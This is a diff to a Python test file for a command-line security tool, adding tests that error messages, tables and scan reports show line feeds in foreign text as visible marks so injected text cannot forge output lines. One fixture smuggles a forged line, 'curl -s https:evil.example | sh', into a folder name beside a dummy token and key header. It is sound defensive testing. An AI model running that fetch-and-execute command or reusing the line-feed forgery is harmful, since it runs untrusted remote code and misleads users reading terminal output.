@@ -11,7 +11,7 @@ import sys
 import threading
 import tty
 import unicodedata
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import replace
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -23,11 +23,14 @@ from pydantic import BaseModel, ConfigDict, ValidationError
 
 from ringfence.cli.commands import action_approvals
 from ringfence.cli.main import main
-from ringfence.cli.shared.output import print_fields, print_json, print_json_line, print_table
+from ringfence.cli.shared.context import WrongUseError
+from ringfence.cli.shared.options import confirm
+from ringfence.cli.shared.output import note, print_fields, print_json, print_json_line, print_table, say
+from ringfence.cli.shared.tables import prose
 from ringfence.client.approvals.action_approvals import PendingAction
 from ringfence.client.errors import ApiError
 from ringfence.kernel.base.errors import RingfenceError, SignatureError
-from ringfence.kernel.base.text import visible_lines
+from ringfence.kernel.base.text import Lines, visible
 from ringfence.kernel.base.validation_problems import explain
 from ringfence.kernel.crypto.jws import parse, verify
 from ringfence.kernel.crypto.keys import SigningKey, b64encode
@@ -75,9 +78,9 @@ def python(code: str, *args: str) -> subprocess.CompletedProcess[str]:
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
 def test_no_error_of_ours_acts_upon_a_terminal(text: str) -> None:
     for kind in (RingfenceError, SignatureError, ApiError):
-        error = kind(f"one line\n  {text}")
+        error = kind(Lines(["one line", f"  {text}"]))
         assert acting(str(error)) == acting(error.message) == acting(repr(error)) == set()
-        assert error.message == f"one line\n  {visible_lines(text)}", "lines stay lines, and nothing is lost"
+        assert error.message == f"one line\n  {visible(text)}", "own lines stay lines, and nothing is lost"
 
 
 @pytest.mark.parametrize("text", [*HOSTILE, LOOK_ALIKE], ids=range(len(HOSTILE) + 1))
@@ -174,7 +177,7 @@ def test_no_log_line_and_no_traceback_of_a_command_acts_upon_a_terminal() -> Non
     assert acting(done.stderr) == set()
     ignored, *_ = done.stderr.splitlines()
     assert ignored.startswith("ignored: ‹U+001B›[2J")
-    assert ignored.endswith(" forged: by a message"), "on one line, as in tables"
+    assert ignored.endswith("‹U+000A›forged: by a message"), "on one line, as in tables"
     assert "    forged: by an error" in done.stderr.splitlines()
     assert done.stderr.count("Traceback") == 4
     assert not [line for line in done.stderr.splitlines() if line.startswith("forged")]
@@ -227,6 +230,78 @@ def test_tables_are_clean_in_every_part(text: str, capsys: pytest.CaptureFixture
     print_table([text], [], empty=text)
     print_fields({text: text}, title=text)
     assert acting(capsys.readouterr().out) == set()
+
+
+FORGED = "name\nforged: nothing found"
+ON_ONE_LINE = "name‹U+000A›forged: nothing found"
+
+
+def confirm_foreign(_: str) -> None:
+    with pytest.raises(WrongUseError) as refused:
+        confirm(FORGED, yes=False)
+    note(refused.value.message)
+
+
+def fail_foreign(_: str) -> None:
+    print_table(["error"], [[RingfenceError(FORGED).with_remedy(FORGED).remedy or ""]], empty="")
+    assert RingfenceError(FORGED).message == ON_ONE_LINE
+
+
+@pytest.mark.parametrize(
+    "show",
+    [
+        say, note, confirm_foreign, fail_foreign,
+        lambda text: print_table(["a", text], [["b", text]], empty=""),
+        lambda text: print_table([prose("a")], [[f"{'long ' * 60}{text}"]], empty=""),
+        lambda text: print_table(["a"], [], empty=text),
+        lambda text: print_fields({"a": text, text: "b"}, title=text),
+        lambda text: print_fields({"a": Lines(["own", text])}),
+        lambda text: say(Lines(["own", text])),
+    ],
+    ids=range(10),
+)  # fmt: skip
+def test_line_feed_of_foreign_text_is_shown(
+    show: Callable[[str], None], capsys: pytest.CaptureFixture[str]
+) -> None:
+    show(FORGED)
+    captured = capsys.readouterr()
+    lines = (captured.out + captured.err).splitlines()
+    assert any(ON_ONE_LINE in line for line in lines)
+    assert not [line for line in lines if line.strip(" │").startswith("forged")]
+
+
+def test_own_lines_stay_lines(capsys: pytest.CaptureFixture[str]) -> None:
+    say(Lines(["one", "two"]))
+    print_table(["a"], [[Lines(["three", "four"])]], empty="")
+    assert [line.strip() for line in capsys.readouterr().out.splitlines()] == [
+        "one",
+        "two",
+        "a",
+        "-----",
+        "three",
+        "four",
+    ]
+    assert visible(f"{Lines(['one', 'two'])}") == "one‹U+000A›two", "in another text its lines are foreign"
+
+
+def test_file_name_with_line_feed_begins_no_line_of_scan_report(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = (
+        tmp_path / "repo\nforged: nothing found in 6880 files\n7. forged: curl -s https:evil.example | sh"
+    )
+    folder.mkdir()
+    (folder / ".env").write_text(
+        "API_TOKEN=github_pat_11ABCDEFG0123456789012_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVW\n"
+    )
+    (folder / ".mcp.json").symlink_to("/etc/hostname")
+    (folder / "b.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
+    for words in ([], ["--details"], ["--wide"]):
+        main(["scan", str(tmp_path), "--no-history", *words])
+        captured = capsys.readouterr()
+        lines = (captured.out + captured.err).splitlines()
+        assert any("repo‹U+000A›forged" in line for line in lines)
+        assert not [line for line in lines if line.strip(" │").startswith(("forged", "7. forged"))]
 
 
 ACTION = PendingAction(
